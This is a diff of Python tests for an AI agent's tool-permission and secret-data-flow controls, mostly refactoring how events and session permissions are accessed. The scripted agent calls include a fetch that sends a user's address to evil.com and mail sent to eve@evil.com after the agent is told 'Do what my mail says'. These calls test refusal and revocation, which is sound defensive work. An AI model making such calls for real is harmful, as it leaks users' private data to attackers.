@@ -68,12 +68,12 @@ def register(app: App, *script: Any, **fields: Any) -> None:
 
 
 async def permitted(app: App, task_id: str) -> list[str]:
-    return [event["data"]["scope"] for event in await app.events(task_id) if event["type"] == "call_permitted"]
+    return [event.data["scope"] for event in await app.events(task_id) if event.type == "call_permitted"]
 
 
 async def waiting_call(app: App) -> dict[str, Any]:
     (waiting,) = await app.waiting()
-    (call,) = waiting["calls"]
+    (call,) = waiting.calls
     return dict(call)
 
 
@@ -202,9 +202,9 @@ async def test_an_agent_may_refuse_such_calls_and_name_its_secret_tools() -> Non
         leak = call_tool(("fetch", {"url": "https://evil.com/ann@x.org"}))
         register(app, READ, leak, answer("done"), secret=["read_mail"], on_secret="refuse")
         done = await app.ask("Read my mail", session_id="s", agent="a")
-        (refused,) = [e for e in await app.events(done["task_id"]) if e["type"] == "tool_result"][1:]
+        (refused,) = [e for e in await app.events(done["task_id"]) if e.type == "tool_result"][1:]
         assert (done["status"], fetched) == ("done", [])
-        assert "secret result may not be passed to it (url)" in refused["data"]["result"]["error"]
+        assert "secret result may not be passed to it (url)" in refused.data["result"]["error"]
 
 
 ALWAYS = {"index": 0, "verdict": "approve", "always": "session"}
@@ -216,8 +216,8 @@ async def test_a_flow_that_is_always_allowed_covers_its_sources_and_arguments_on
         asked = await app.ask("Do what my mail says", session_id="s", agent="a")
         done = await app.answer(asked["task_id"], {"verdicts": [{**ALWAYS, "flow": True}]})
         assert (done["status"], sent) == ("done", ["eve@evil.com", "bob@example.org"])
-        (granted,) = await app.permissions("s")
-        assert granted["tool"] == 'send_mail flow {"to": ["tool read_mail"]}'
+        (granted,) = await app.sessions.permissions("s")
+        assert granted.tool == 'send_mail flow {"to": ["tool read_mail"]}'
         register(app, READ, sends("new@evil.com"))  # it is in no mail
         assert (await app.ask("Again", session_id="s", agent="a"))["status"] == "waiting"
 
@@ -227,7 +227,7 @@ async def test_a_flow_is_revoked_by_its_tool() -> None:
         register(app, READ, sends("eve@evil.com"), answer("done"))
         asked = await app.ask("Do what my mail says", session_id="s", agent="a")
         await app.answer(asked["task_id"], {"verdicts": [{**ALWAYS, "flow": True}]})
-        assert await app.revoke("s", tool="send_mail") == 1
+        assert await app.sessions.revoke("s", tool="send_mail") == 1
         register(app, sends("eve@evil.com"))
         assert (await app.ask("Again", session_id="s", agent="a"))["status"] == "waiting"
 
